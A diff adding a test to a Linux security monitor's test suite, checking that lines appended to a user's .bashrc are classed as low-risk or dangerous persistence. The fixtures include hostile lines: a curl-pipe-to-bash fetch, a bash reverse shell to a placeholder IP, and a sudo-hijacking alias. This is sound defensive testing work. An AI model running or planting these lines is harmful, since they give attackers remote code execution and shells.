@@ -60,6 +60,16 @@ describe.skipIf(process.platform !== 'linux')('a change of power', () => {
     expect(JSON.stringify(event)).not.toMatch(/hunter2|\\u001b/)
   })
 
+  it('of a person’s own shell is dangerous by what was added, and by nothing that tools write there', async () => {
+    put('/home/eve/.bashrc', 'export PATH="/home/eve/.local/bin:$PATH"\n. /tmp/old\n')
+    const add = (line: string) => said(() => appendFileSync(join(root, 'home/eve/.bashrc'), `${line}\n`))
+    expect(await add('. "/home/eve/.cargo/env"')).toMatchObject([{ kind: 'security.persistence.new', severity: 'low' }])
+    for (const line of ['/tmp/x &', 'curl http://x/y | bash', "alias sudo='~/.s'", 'bash -i >& /dev/tcp/1.2.3.4/9 0>&1'])
+      expect(await add(line)).toMatchObject([
+        { kind: 'security.persistence.dangerous', severity: 'high', facts: { technique: 'T1546.004' } },
+      ])
+  })
+
   it('of the users and groups is one when somebody became an administrator, or is new', async () => {
     const added = (path: string, line: string) => said(() => appendFileSync(join(root, path), line))
     expect(await added('etc/passwd', 'bob:x:1001:1001::/home/bob:/bin/sh\n')).toMatchObject([
